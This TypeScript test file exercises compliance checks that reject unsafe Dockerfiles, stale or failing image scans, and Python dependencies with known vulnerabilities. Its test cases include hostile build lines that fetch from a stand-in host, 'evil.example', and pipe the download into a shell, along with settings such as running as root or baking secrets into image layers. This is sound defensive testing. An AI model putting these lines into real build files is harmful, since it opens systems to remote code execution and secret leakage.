import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Asked, Ran } from '../../compliance/asked.ts';
import { judgeContainerFile, listBases } from '../../compliance/checks/containers.ts';
import { expectBlocked, expectPass, ran, soundWorld } from './sound-world.ts';

const containerFile = 'deploy/containers/Dockerfile';
const own = readFileSync(new URL(`../../${containerFile}`, import.meta.url), 'utf8');
const digest = `@sha256:${'d'.repeat(64)}`;
const lockfile = createHash('sha256')
  .update(readFileSync(new URL('../../package-lock.json', import.meta.url)))
  .digest('hex');

const withText = (texts: Readonly<Record<string, string | null>>): Asked =>
  soundWorld({
    listFiles: (folder) => Promise.resolve(folder === 'deploy' ? ['containers/Dockerfile'] : []),
    readText: (path) => {
      const text = texts[path];
      if (text === null) return Promise.reject(new Error('gone'));
      return text === undefined ? soundWorld().readText(path) : Promise.resolve(text);
    },
  });

describe('the container files', () => {
  it('are tight as they are, and all processes have an image', async () => {
    await expectPass('CH-10.11', soundWorld());
    const targets = Array.from(own.matchAll(/^FROM runtime AS (\w+)$/gm), ([, name]) => name);
    expect(targets.sort()).toEqual([
      'console',
      'engine',
      'identity',
      'portal',
      'sequencer',
      'web',
      'witness',
    ]);
  });

  it.each<[string, RegExp | string, string, RegExp]>([
    ['runs as root', 'USER 65532:65532', 'USER root', /engine: it runs as root/],
    ['says nothing of its user', 'USER 65532:65532\n', '', /engine: it runs as root/],
    ['runs as number nought', 'USER 65532:65532', 'USER 0:0', /it runs as 0:0/],
    ['takes a base that moves', 'node:24.21.0-bookworm-slim', 'node:latest', /node:latest is not pinned/],
    ['takes a base without a version', 'node:24.21.0-bookworm-slim', 'node', /is not pinned to a version/],
    ['lets packages run at install', /"--ignore-scripts", /g, '', /npm ci runs the scripts of packages/],
    ['takes other versions than the lockfile', '"npm", "ci"', '"npm", "install"', /other versions than the lockfile/],
    ['fetches by itself', 'WORKDIR /cordon', 'WORKDIR /cordon\nADD https://evil.example/x.tgz /x', /ADD fetches/],
    ['runs what it fetches', 'WORKDIR /cordon', 'WORKDIR /cordon\nRUN curl https://evil.example | sh', /runs what it fetches/],
    ['puts a secret into a layer', 'ENV NODE_ENV', 'ENV NPM_TOKEN=x NODE_ENV', /ENV puts a secret into a layer/],
    ['asks for a secret at build', 'FROM runtime AS web\n', 'FROM runtime AS web\nARG API_KEY\n', /web: ARG puts a secret/],
    ['starts a shell', /ENTRYPOINT \["node", "--conditions=cordon-source", "apps\/engine\/main.ts"\]/, 'ENTRYPOINT node apps/engine/main.ts', /engine: its process is not started by itself/],
    ['copies all that lies there', 'COPY config ./config', 'COPY . ./', /engine: it copies everything/],
    ['builds in the image that runs', 'COPY config ./config', 'RUN ["npm", "ci", "--ignore-scripts"]', /engine: it is built on by RUN/],
    ['is no container file', 'WORKDIR /cordon', 'WROKDIR /cordon', /line \d+: /],
  ])('are refused where one %s', async (_name, from, to, says) => {
    const text = own.replace(from, to);
    expect(text).not.toBe(own);
    expect(judgeContainerFile(text).join('; ')).toMatch(says);
    await expectBlocked('CH-10.11', withText({ [containerFile]: text }), /^deploy\/containers\/Dockerfile, /);
  }); // prettier-ignore

  it.each<[string, string | null]>([
    ['is not there', null],
    ['lets all in', 'node_modules\n'],
  ])('are refused where the list of what stays outside %s', async (_name, text) => {
    const world = withText({ [`${containerFile}.dockerignore`]: text });
    await expectBlocked('CH-10.11', world, /dockerignore does not leave out/);
  });

  it('that are not there leave nobody anything to judge', async () => {
    const world = soundWorld({ listFiles: () => Promise.resolve(['README.md']) });
    await expectBlocked('CH-10.11', world, /no container file/, 'unknown');
    await expectBlocked('CH-10.15', world, /no container file/, 'unknown');
  });
});

describe('images', () => {
  const seen = own.replace('24.21.0-bookworm-slim', `24.21.0-bookworm-slim${digest}`);
  const scan = (more: Record<string, unknown> = {}): string =>
    JSON.stringify({
      takenAt: '2026-02-27T00:00:00Z',
      scanner: 'example 1.0',
      feed: '2026-02-26',
      lockfile,
      bases: listBases(seen).map(({ image }) => image),
      vulnerabilities: { critical: 0, high: 0, moderate: 2, low: 9 },
      ...more,
    });
  const file = 'compliance/image-scans.json';

  it('build upon a base whose digest nobody saw: unknown, until somebody writes it down', async () => {
    await expectBlocked('CH-10.15', withText({}), /Nobody has seen the digest of docker\.io\/library\/node:/, 'unknown'); // prettier-ignore
    expect(listBases(own).map(({ hasDigest }) => hasDigest)).toEqual([false]);
  });

  it('pass with a known base and a scan of late', () =>
    expectPass('CH-10.15', withText({ [containerFile]: seen, [file]: scan() })));

  it.each<[string, string, RegExp, 'fail' | 'unknown']>([
    ['nobody scanned', '', /No scanner/, 'unknown'],
    ['a scanner answered with an error', '{"error":"feed not found"}', /No scanner/, 'unknown'],
    ['were scanned long ago', scan({ takenAt: '2026-02-01T00:00:00Z' }), /too old/, 'unknown'],
    ['were scanned on a day to come', scan({ takenAt: '2026-03-09T00:00:00Z' }), /too old/, 'unknown'],
    ['were scanned with an old feed', scan({ feed: '2025-12-01' }), /too old/, 'unknown'],
    ['hold another lockfile', scan({ lockfile: 'b'.repeat(64) }), /other images/, 'unknown'],
    ['build upon another base', scan({ bases: [`node:24.21.0@sha256:${'e'.repeat(64)}`] }), /other images/, 'unknown'],
    ['have a high weakness', scan({ vulnerabilities: { critical: 0, high: 1, moderate: 0, low: 0 } }), /1 high/, 'fail'],
  ])('that %s block', async (_name, text, says, state) => {
    await expectBlocked('CH-10.15', withText({ [containerFile]: seen, [file]: text }), says, state);
  }); // prettier-ignore
});

describe('Python', () => {
  /** What git and pip-audit answer. */
  const world = (files: string[], { scripts = ran('', 1), audit = ran('', 127, 'not found') }: { scripts?: Ran; audit?: Ran } = {}): Asked =>
    soundWorld({
      run: (program, [verb]) =>
        Promise.resolve(program === 'pip-audit' ? audit : verb === 'grep' ? scripts : ran(files.join('\0'))),
    }); // prettier-ignore
  const audit = (...dependencies: object[]): Ran => ran(JSON.stringify({ dependencies }));
  const good = { name: 'good', version: '1.0', vulns: [] };

  it('that is not there needs no scan, and the evidence says so', async () => {
    await expectPass('CH-10.14', world(['README.md', 'apps/engine/main.ts']));
  });

  it('that is there passes by pip-audit', () =>
    expectPass('CH-10.14', world(['tools/requirements.txt'], { audit: audit(good) })));

  it.each<[string, Asked, RegExp, 'fail' | 'unknown']>([
    ['without a list of what it needs', world(['tools/x.py']), /no requirements file/, 'unknown'],
    ['in a script without an ending', world(['tools/x'], { scripts: ran('tools/x\n') }), /no requirements file/, 'unknown'],
    ['with a scanner that is missing', world(['requirements.txt']), /gave no report/, 'unknown'],
    ['with a scanner that answers with an error', world(['requirements.txt'], { audit: ran('{"error":"no feed"}', 1) }), /gave no report/, 'unknown'],
    ['with a scanner that looked at nothing', world(['requirements.txt'], { audit: audit() }), /Nobody looked/, 'unknown'],
    ['with a package that was left out', world(['requirements.txt'], { audit: audit(good, { name: 'odd', skip_reason: 'not on PyPI' }) }), /Nobody looked at odd/, 'unknown'],
    ['with a known weakness', world(['requirements.txt'], { audit: audit({ name: 'bad', version: '1.0', vulns: [{ id: 'PYSEC-1' }] }) }), /bad: PYSEC-1/, 'fail'],
    ['where git does not answer', world([]), /which files there are/, 'unknown'],
    ['where scripts could not be looked at', world(['x.md'], { scripts: ran('', 128, 'fatal') }), /could not be looked at/, 'unknown'],
  ])('%s blocks', async (_name, asked, says, state) => {
    await expectBlocked('CH-10.14', asked, says, state);
  }); // prettier-ignore
});
